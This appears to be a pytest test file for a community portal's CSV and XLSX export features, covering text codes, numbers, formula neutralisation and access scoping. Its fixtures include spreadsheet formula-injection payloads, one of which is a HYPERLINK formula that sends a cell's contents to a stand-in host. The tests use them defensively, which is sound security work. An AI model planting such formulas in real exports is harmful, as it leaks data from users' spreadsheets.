"""CSV and XLSX exports: text codes, no formulas, real numbers, scope (K01, K09, K10)."""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest

from kk_portal.exports import CODE, MONEY, NUMBER, TEXT, Column, write_csv, write_xlsx
from tests import factories as f


@pytest.fixture(autouse=True)
def english(settings):
    """Pages in English, the source language, so labels compare as written in the code."""
    settings.LANGUAGE_CODE = "en"


ASPIRATIONS = "/aspirations/export/"
MEMBERS = "/members/export/"


def xlsx_rows(response):
    assert response["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    return [[cell for cell in row] for row in book.active.iter_rows()]


def csv_rows(response):
    content = b"".join(response.streaming_content)
    assert content.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_writers_keep_codes_as_text_and_numbers_as_numbers():
    columns = [
        Column("NIK", "nik", CODE),
        Column("HP", "phone", CODE),
        Column("RT", "rt", CODE),
        Column("Catatan", "note", TEXT),
        Column("Jumlah", "amount", MONEY),
        Column("N", "n", NUMBER),
    ]
    rows = [
        {
            "nik": "9471024506880007",
            "phone": "081234567890",
            "rt": "003",
            "note": "-50% jalan rusak",
            "amount": Decimal("-5000.00"),
            "n": 3,
        }
    ]
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream)
    stream.seek(0)
    cells = list(openpyxl.load_workbook(stream).active.iter_rows())[1]
    assert [c.value for c in cells[:4]] == [
        "9471024506880007",
        "081234567890",
        "003",
        "-50% jalan rusak",
    ]
    assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "s"]
    assert cells[4].value == -5000 and cells[4].data_type == "n"
    assert cells[5].value == 3 and cells[5].data_type == "n"

    text = write_csv(rows, columns).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text)))[1] == [
        "9471024506880007",
        "081234567890",
        "003",
        "'-50% jalan rusak",
        "-5000.00",
        "3",
    ]


@pytest.mark.parametrize(
    "value",
    ['=HYPERLINK("http://example.invalid/?d="&B2,"Lihat")', "@SUM(1+1)", "+1+1", "-2+3"],
)
def test_writers_never_write_a_formula(value):
    columns = [Column("Judul", "title", TEXT), Column("Kode", "code", CODE)]
    rows = [{"title": value, "code": value}]
    stream = io.BytesIO()
    write_xlsx(rows, columns, title="Uji", stream=stream)
    stream.seek(0)
    cells = list(openpyxl.load_workbook(stream).active.iter_rows())[1]
    assert all(c.data_type == "s" and c.value == value for c in cells)

    line = list(csv.reader(io.StringIO(write_csv(rows, columns).decode("utf-8-sig"))))[1]
    assert line == ["'" + value, "'" + value]


def test_members_export_keeps_nik_phone_and_is_xlsx_by_default(officer, world):
    f.MemberFactory(
        group=world.group_a1,
        full_name="Yohana Mambrasar",
        nik="9471024506880007",
        phone="+6281234567890",
    )
    f.MemberFactory(group=world.group_a1, full_name="@SUM(1+1)")

    rows = xlsx_rows(officer.get(MEMBERS))

    header = [c.value for c in rows[0]]
    by_name = {row[0].value: row for row in rows[1:]}
    yohana = by_name["Yohana Mambrasar"]
    assert yohana[header.index("NIK")].value == "9471024506880007"
    assert yohana[header.index("NIK")].data_type == "s"
    assert yohana[header.index("Phone")].value == "+6281234567890"
    assert by_name["@SUM(1+1)"][0].data_type == "s"

    lines = csv_rows(officer.get(MEMBERS, {"format": "csv"}))
    by_name = {line[0]: line for line in lines[1:]}
    assert by_name["Yohana Mambrasar"][5:7] == ["9471024506880007", "+6281234567890"]
    assert "'@SUM(1+1)" in by_name


def test_members_export_with_tampered_group_has_no_other_rows(officer, facilitator, world):
    f.MemberFactory(group=world.group_a1, full_name="Anggota A1")
    f.MemberFactory(group=world.group_b1, full_name="Anggota B1")

    officer_lines = csv_rows(officer.get(MEMBERS, {"format": "csv", "group": world.group_b1.pk}))
    facilitator_lines = csv_rows(
        facilitator.get(MEMBERS, {"format": "csv", "group": world.group_b1.pk})
    )
    facilitator_all = csv_rows(facilitator.get(MEMBERS, {"format": "csv"}))

    assert [line[0] for line in officer_lines[1:]] == ["Anggota A1"]
    assert facilitator_lines[1:] == []
    assert [line[0] for line in facilitator_all[1:]] == ["Anggota A1"]


def test_aspiration_export_only_in_scope_with_tampered_ids(officer, world):
    mine = f.AspirationFactory(group=world.group_a1, title='=HYPERLINK("x","Lihat")')
    f.AspirationFactory(group=world.group_b1, title="Rahasia B1")

    plain = csv_rows(officer.get(ASPIRATIONS, {"format": "csv"}))
    tampered = csv_rows(officer.get(ASPIRATIONS, {"format": "csv", "village": world.village_b1.pk}))
    by_id = csv_rows(officer.get(ASPIRATIONS, {"format": "csv", "id__in": "1,2,3,4,5"}))

    assert [line[0] for line in plain[1:]] == [str(mine.pk)]
    assert plain[1][1] == '\'=HYPERLINK("x","Lihat")'
    assert tampered[1:] == []
    assert [line[0] for line in by_id[1:]] == [str(mine.pk)]


def test_aspiration_export_xlsx_keeps_numbers_and_codes(facilitator, world):
    f.AspirationFactory(group=world.group_a1)

    rows = xlsx_rows(facilitator.get(ASPIRATIONS))

    header = [c.value for c in rows[0]]
    row = rows[1]
    assert row[header.index("ID")].data_type == "n"
    assert row[header.index("Village code")].value == world.village_a1.code
    assert row[header.index("Village code")].data_type == "s"


def test_dashboard_table_export_is_scoped_and_suppressed(programme, facilitator_b, world):
    f.MemberFactory.create_batch(3, group=world.group_a1, sex="F")
    f.AspirationFactory.create_batch(2, group=world.group_a1)

    programme_rows = csv_rows(programme.get("/dashboard/export/members_region/?format=csv"))
    facilitator_funnel = csv_rows(facilitator_b.get("/dashboard/export/funnel/?format=csv"))
    programme_funnel = xlsx_rows(programme.get("/dashboard/export/funnel/"))

    assert programme_rows[1][3] == "<5"  # members
    assert programme_rows[1][4] == "<5"  # women
    assert facilitator_funnel[1][1] == "0"
    assert programme_funnel[1][1].value == 2 and programme_funnel[1][1].data_type == "n"


def test_dashboard_table_export_unknown_table_not_found(programme):
    assert programme.get("/dashboard/export/nothing/").status_code == 404


def test_dashboard_table_export_with_impossible_period_explains(programme):
    response = programme.get(
        "/dashboard/export/funnel/", {"start": "2024-09-01", "end": "2024-08-01"}
    )
    assert response.status_code == 400
    assert "before its start" in response.content.decode()


def test_aspiration_list_offers_export_with_its_filters(facilitator, world):
    f.AspirationFactory(group=world.group_a1)
    response = facilitator.get("/aspirations/", {"channel": "letter"})
    assert "/aspirations/export/?channel=letter&amp;format=csv" in response.text
